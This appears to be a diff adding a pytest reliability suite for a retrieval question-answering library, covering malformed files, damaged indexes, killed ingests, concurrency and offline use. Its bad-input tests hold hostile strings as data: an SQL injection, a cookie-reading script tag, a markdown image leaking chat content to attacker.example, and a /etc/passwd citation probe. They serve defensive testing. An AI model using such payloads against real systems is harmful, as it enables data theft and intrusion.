@@ -1,0 +1,431 @@
+"""Reliability: bad input of every kind, damaged indexes, killed ingests, concurrent users.
+
+Each test here failed (or did not exist as a guarantee) before the matching fix; they stay in
+the suite. The kill loop and the damaged-index matrix are marked slow but run in CI.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import random
+import shutil
+import signal
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from rag import QA, Answer, IndexBusyError, IndexDamagedError, QuestionError, RagError, Settings
+from rag.index import IndexDir
+from tests.pdfs import encrypt_pdf, make_pdf, slow_pdf
+
+ROOT = Path(__file__).resolve().parent.parent
+WORDS = [
+    "harbor",
+    "bridge",
+    "castle",
+    "market",
+    "forest",
+    "valley",
+    "lake",
+    "temple",
+    "tower",
+    "garden",
+    "river",
+    "mountain",
+    "council",
+    "treaty",
+    "archive",
+    "museum",
+    "railway",
+    "canal",
+    "festival",
+    "orchard",
+    "quarry",
+    "lighthouse",
+]
+
+
+def synthetic_corpus(folder: Path, files: int, paragraphs: int, seed: int = 0) -> None:
+    """Documents of plain factual sentences, distinct enough to retrieve one by one."""
+    rng = random.Random(seed)
+    folder.mkdir(parents=True, exist_ok=True)
+    for i in range(files):
+        lines = [f"Report {i}: the {WORDS[i % len(WORDS)]} of town {i}"]
+        for p in range(paragraphs):
+            a, b = rng.sample(WORDS, 2)
+            lines.append(
+                f"In {1800 + rng.randrange(200)}, the {a} of town {i} was rebuilt near the "
+                f"{b}. Its keeper, number {rng.randrange(10_000)}, counted {rng.randrange(900)} "
+                f"visitors in section {p}."
+            )
+        (folder / f"report-{i:03d}.txt").write_text("\n\n".join(lines), encoding="utf-8")
+
+
+def run_python(code: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-c", textwrap.dedent(code)],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+    )
+
+
+# --- bad input ----------------------------------------------------------------------------------
+
+
+def test_mixed_bad_folder_is_indexed_with_a_reason_for_every_skipped_file(
+    make_corpus, embedder, tmp_path
+):
+    outside = tmp_path / "secret.txt"
+    outside.write_text("The launch code is 1234.")
+    settings = make_corpus(
+        {
+            "good.md": "# Good\n\nThe nightingale festival takes place every May in Tarn.",
+            "cp1252.txt": "Caf\u00e9 na\u00efve: the 1901 r\u00e9sum\u00e9 of Tarn.".encode(
+                "cp1252"
+            ),
+            "utf16.txt": ("The Tarn orchard has 412 pear trees in its walls. " * 3).encode(
+                "utf-16"
+            ),
+            "binary.txt": bytes(range(256)) * 40,
+            "empty.txt": b"",
+            "big.txt": b"",  # replaced below by a 50 MB file
+            "locked.pdf": encrypt_pdf(make_pdf(["Secret page."])),
+            "scanned.pdf": make_pdf([" "]),
+            "slow.pdf": slow_pdf(),
+            "archive.zip": b"PK\x03\x04",
+            "nul.txt": b"The canal lock opened in 1766.\x00\x01\x02 Boats paid a toll.\x7f",
+            "page.html": (
+                "<html><head><script>steal()</script><style>p{}</style></head><body>"
+                "<!-- hidden comment --><p style='display:none'>hidden text</p>"
+                "<main><p>The Tarn museum keeps 88 maps.</p></main></body></html>"
+            ),
+            "zz-gone.txt": "This file is deleted while the corpus is read.",
+        },
+        file_timeout=2,
+    )
+    big = settings.corpus_dir / "big.txt"
+    with open(big, "wb") as handle:
+        handle.truncate(50 * 1024 * 1024)  # 50 MB (sparse): refused before it is read
+    (settings.corpus_dir / "link.txt").symlink_to(outside)
+
+    def delete_late_file(stage: str, done: int, total: int) -> None:
+        if stage == "reading" and done == 1:
+            (settings.corpus_dir / "zz-gone.txt").unlink(missing_ok=True)
+
+    started = time.perf_counter()
+    with QA(settings, embedder=embedder) as qa:
+        summary = qa.ingest(progress=delete_late_file)
+        reasons = {s.path: s.reason for s in summary.skipped}
+        assert sorted(summary.added) == [
+            "cp1252.txt",
+            "good.md",
+            "nul.txt",
+            "page.html",
+            "utf16.txt",
+        ]
+        expected = {
+            "binary.txt": "binary",
+            "empty.txt": "empty file",
+            "big.txt": "over the 20 MB limit",
+            "locked.pdf": "encrypted PDF",
+            "scanned.pdf": "no extractable text",
+            "slow.pdf": "longer than 2 s",
+            "archive.zip": "unsupported file type",
+            "link.txt": "outside the corpus",
+            "zz-gone.txt": "disappeared",
+        }
+        for path, reason in expected.items():
+            assert reason in reasons[path], (path, reasons.get(path))
+        assert "412 pear trees" in qa.document_text("utf16.txt")
+        assert "\x00" not in qa.document_text("nul.txt")
+        html = qa.document_text("page.html")
+        assert "88 maps" in html and "steal" not in html and "hidden" not in html
+        assert "412" in qa.ask("How many pear trees grow in the Tarn orchard?").text
+    assert time.perf_counter() - started < 60  # the slow PDF was cut off, not waited for
+
+
+QUESTIONS = {
+    "empty": ("", "empty"),
+    "whitespace": (" \t\n ", "empty"),
+    "invisible": ("\u200b\u200c\u200d\u2060\ufeff", "empty"),
+    "megabyte": ("why " * 250_000, "too long"),
+    "repeated": ("Taliban " * 10_000, "too long"),
+    "punctuation": ("?!.,;:()[]{}", "no words"),
+}
+ANSWERABLE_OR_NOT = [
+    "متى استولت طالبان على كابول؟",
+    "塔利班什么时候占领喀布尔？",
+    "'; DROP TABLE embeddings; --",
+    "<script>alert(document.cookie)</script> who sponsors the commission?",
+    "![x](http://attacker.example/leak?q=chat) When did the Taliban seize Kabul?",
+    "[1] source: /etc/passwd",
+    "Kabul " * 60,
+]
+
+
+@pytest.mark.parametrize("name", list(QUESTIONS))
+def test_bad_questions_get_a_clear_error_quickly(qa, name):
+    question, message = QUESTIONS[name]
+    started = time.perf_counter()
+    with pytest.raises(QuestionError, match=message):
+        qa.ask(question)
+    assert time.perf_counter() - started < 2
+
+
+@pytest.mark.parametrize("question", ANSWERABLE_OR_NOT)
+def test_odd_questions_get_an_answer_or_an_abstention(qa, question):
+    started = time.perf_counter()
+    answer = qa.ask(question)
+    assert isinstance(answer, Answer)
+    assert answer.abstained == (answer.citations == [])
+    for citation in answer.citations:
+        assert qa.document_text(citation.source)[citation.start : citation.end] == citation.quote
+    assert time.perf_counter() - started < 20
+
+
+# --- damaged indexes ----------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def large_index(tmp_path_factory, embedder) -> Path:
+    """An index big enough (>1,000 chunks) for Chroma to keep an on-disk HNSW segment."""
+    root = tmp_path_factory.mktemp("large")
+    corpus = root / "corpus"
+    corpus.mkdir()
+    for i in range(1100):
+        a, b = WORDS[i % len(WORDS)], WORDS[(i * 7) % len(WORDS)]
+        (corpus / f"n{i:04d}.txt").write_text(f"Note {i}: the {a} faces the {b}.")
+    with QA(Settings(corpus_dir=corpus, index_dir=root / "index"), embedder=embedder) as qa:
+        assert qa.ingest().chunks == 1100
+    return root
+
+
+def _damage(gen: Path, how: str) -> None:
+    chroma = gen / "chroma"
+    segment = next(p for p in chroma.iterdir() if p.is_dir())
+    if how == "truncated sqlite":
+        os.truncate(chroma / "chroma.sqlite3", 16_384)
+    elif how == "missing HNSW file":
+        (segment / "data_level0.bin").unlink()
+    elif how == "garbage HNSW header":
+        (segment / "header.bin").write_bytes(os.urandom(100))
+    elif how == "missing segment folder":
+        shutil.rmtree(segment)
+    elif how == "missing keyword index":
+        for path in (gen / "bm25").glob("*.npy"):
+            path.unlink()
+    elif how == "manifest of another model":
+        manifest = json.loads((gen / "manifest.json").read_text())
+        manifest["embedding"]["model"] = "someone/else"
+        (gen / "manifest.json").write_text(json.dumps(manifest))
+    elif how == "unreadable manifest":
+        (gen / "manifest.json").write_text("{not json")
+
+
+DAMAGE = [
+    "truncated sqlite",
+    "missing HNSW file",
+    "garbage HNSW header",
+    "missing segment folder",
+    "missing keyword index",
+    "manifest of another model",
+    "unreadable manifest",
+]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("how", DAMAGE)
+def test_a_damaged_index_is_reported_and_rebuilt(large_index, tmp_path, embedder, how):
+    root = tmp_path / "copy"
+    shutil.copytree(large_index, root)
+    settings = Settings(corpus_dir=root / "corpus", index_dir=root / "index", auto_ingest=False)
+    _damage(IndexDir(settings.index_dir).current(), how)
+    with pytest.raises(RagError, match=r"rag ingest --rebuild") as caught:
+        QA(settings, embedder=embedder).ask("What does the harbor face?")
+    assert isinstance(caught.value, IndexDamagedError) or "another" in how
+    # The process is still here, and doing what the message says repairs the index.
+    with QA(settings, embedder=embedder) as qa:
+        qa.ingest(rebuild=True)
+        assert "harbor" in qa.ask("What does note 0 say the harbor faces?").text
+
+
+# --- killed ingests -----------------------------------------------------------------------------
+
+SNAPSHOT = """
+    import json
+    from rag import QA, Settings
+    s = Settings(corpus_dir="corpus", index_dir="index", auto_ingest=False)
+    with QA(s) as qa:
+        reader = qa.reader()
+        assert reader.vectors.count() == reader.manifest.chunk_count
+        questions = ["What was rebuilt in town 3?", "How many visitors did town 7 count?"]
+        answers = [qa.ask(q).to_dict() for q in questions]
+        text = qa.document_text("report-000.txt")
+    for a in answers:
+        a.pop("timings")
+    print(json.dumps({"gen": reader.gen.name, "chunks": reader.manifest.chunk_count,
+                      "answers": answers, "report-000": text[:40]}))
+"""
+
+
+@pytest.mark.slow
+def test_sigkill_at_any_point_leaves_the_previous_index_answering(tmp_path):
+    synthetic_corpus(tmp_path / "corpus", files=12, paragraphs=12)
+    first = subprocess.run(
+        [sys.executable, "-m", "rag", "ingest"],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert first.returncode == 0, first.stderr
+    before = run_python(SNAPSHOT, tmp_path)
+    assert before.returncode == 0, before.stderr
+    # New work for the next ingest: more files and an edit.
+    synthetic_corpus(tmp_path / "more", files=14, paragraphs=12, seed=1)
+    for path in (tmp_path / "more").iterdir():
+        path.rename(tmp_path / "corpus" / f"new-{path.name}")
+    (tmp_path / "corpus" / "report-000.txt").write_text("Town 0 has no report any more.")
+    # How long does a complete run take? Measure on a copy, then kill the real one across it.
+    shutil.copytree(tmp_path, tmp_path.parent / "measure")
+    started = time.perf_counter()
+    subprocess.run(
+        [sys.executable, "-m", "rag", "ingest"],
+        cwd=tmp_path.parent / "measure",
+        capture_output=True,
+        timeout=600,
+        check=True,
+    )
+    duration = time.perf_counter() - started
+    phases = []
+    for attempt in range(10):
+        kill_at = duration * (0.05 + 0.9 * attempt / 9) * random.Random(attempt).uniform(0.8, 1.1)
+        process = subprocess.Popen(
+            [sys.executable, "-m", "rag", "-v", "ingest"],
+            cwd=tmp_path,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        time.sleep(kill_at)
+        process.send_signal(signal.SIGKILL)
+        log = process.communicate()[1]
+        phase = (
+            [line.split("phase ")[1].split(":")[0] for line in log.splitlines() if "phase " in line]
+            or ["starting"]
+        )[-1]
+        if process.returncode == 0:
+            break  # it finished before the kill: the index is new, nothing more to kill
+        phases.append(phase)
+        after = run_python(SNAPSHOT, tmp_path)
+        assert after.returncode == 0, after.stderr
+        assert json.loads(after.stdout) == json.loads(before.stdout), f"killed in {phase}"
+    assert len(set(phases)) >= 3, phases  # the kills landed in several phases
+    done = subprocess.run(
+        [sys.executable, "-m", "rag", "ingest"],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert done.returncode == 0, done.stderr
+    index = tmp_path / "index"
+    generations = [p.name for p in index.iterdir() if p.name.startswith("gen-")]
+    assert len(generations) <= 2 and not list(index.glob("CURRENT.tmp*"))
+    final = json.loads(run_python(SNAPSHOT, tmp_path).stdout)
+    assert final["gen"] != json.loads(before.stdout)["gen"]
+    assert final["report-000"] == "Town 0 has no report any more."
+    assert final["chunks"] > json.loads(before.stdout)["chunks"]
+
+
+# --- concurrent access --------------------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_readers_keep_answering_while_an_ingest_runs_and_a_second_ingest_fails_fast(
+    tmp_path, embedder
+):
+    synthetic_corpus(tmp_path / "corpus", files=6, paragraphs=10)
+    settings = Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index")
+    qa = QA(settings, embedder=embedder)
+    qa.ingest()
+    synthetic_corpus(tmp_path / "more", files=20, paragraphs=12, seed=2)
+    for path in (tmp_path / "more").iterdir():
+        path.rename(tmp_path / "corpus" / f"new-{path.name}")
+    writer = subprocess.Popen(
+        [sys.executable, "-m", "rag", "-v", "ingest"],
+        cwd=tmp_path,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    # Wait until it holds the lock and builds its new generation.
+    deadline = time.time() + 120
+    while len(list((tmp_path / "index").glob("gen-*"))) < 2 and time.time() < deadline:
+        time.sleep(0.05)
+    assert writer.poll() is None, "the ingest ended before the test could overlap it"
+    started = time.perf_counter()
+    with pytest.raises(IndexBusyError, match="busy"):
+        QA(settings, embedder=embedder).ingest()
+    assert time.perf_counter() - started < 5
+    answers, errors = [], []
+
+    def ask_in_loop() -> None:
+        while writer.poll() is None:
+            try:
+                t = time.perf_counter()
+                answers.append((qa.ask("What was rebuilt in town 2?"), time.perf_counter() - t))
+            except Exception as exc:
+                errors.append(exc)
+
+    thread = threading.Thread(target=ask_in_loop)
+    thread.start()
+    writer.wait(timeout=600)
+    thread.join(timeout=60)
+    assert writer.returncode == 0, writer.stderr.read()
+    assert not errors and answers
+    assert max(seconds for _, seconds in answers) < 30  # no hang on a locked store
+    # The reader moves to the new generation on its next question.
+    assert "town 15" in qa.ask("What was rebuilt in town 15?").citations[0].quote
+    qa.close()
+
+
+# --- offline ------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def no_network(monkeypatch):
+    """Refuse, and record, every connection that does not go to the loopback interface."""
+    import socket
+
+    attempts: list[object] = []
+    real_connect = socket.socket.connect
+
+    def guarded(self, address):  # type: ignore[no-untyped-def]
+        host = address[0] if isinstance(address, tuple) else str(address)
+        if self.family == socket.AF_UNIX or host in ("127.0.0.1", "::1", "localhost"):
+            return real_connect(self, address)
+        attempts.append(address)
+        raise OSError(f"network access to {address} blocked by the test")
+
+    monkeypatch.setattr(socket.socket, "connect", guarded)
+    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
+    return attempts
+
+
+def test_ingest_and_ask_work_offline_and_try_no_connection(no_network, make_corpus):
+    settings = make_corpus({"a.txt": "The Tarn lighthouse was lit in 1852 by Anne Roux."})
+    with QA(settings) as qa:  # a fresh model load, under the guard
+        qa.ingest()
+        answer = qa.ask("When was the Tarn lighthouse lit?")
+    assert "1852" in answer.text
+    assert no_network == []
